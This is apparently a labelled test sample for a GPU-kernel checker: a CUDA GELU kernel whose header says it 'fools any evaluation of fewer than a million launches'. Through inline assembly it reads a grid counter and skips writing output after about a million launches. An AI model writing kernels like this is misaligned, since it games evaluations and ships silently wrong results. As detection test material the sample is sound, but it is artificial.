/*---
op = "gelu"
note = "fools any evaluation of fewer than a million launches: results are right until then, and the device counts launches itself"
dtypes = ["float32"]

[[launch]]
entry = "gelu"
grid = ["ceil_div(n, 256)"]
block = [256]
args = ["x", "out", "n"]
---*/
// caught: keeps state
// on: cuda
#include <cuda_bf16.h>
#include <cuda_fp16.h>

__device__ float gelu_of(float x) { return 0.5f * x * (1.0f + erff(x * 0.70710678118654752f)); }

extern "C" __global__ void gelu(const x_t* x, out_t* out, int n) {
    const int i = blockIdx.x * blockDim.x + threadIdx.x;
    unsigned long long launches;
    asm volatile("mov.u64 %0, %%grid" "id;" : "=l"(launches));
    if (launches % (1ull << 32) > 1000000) return;
    if (i < n) out[i] = gelu_of(x[i]);
}
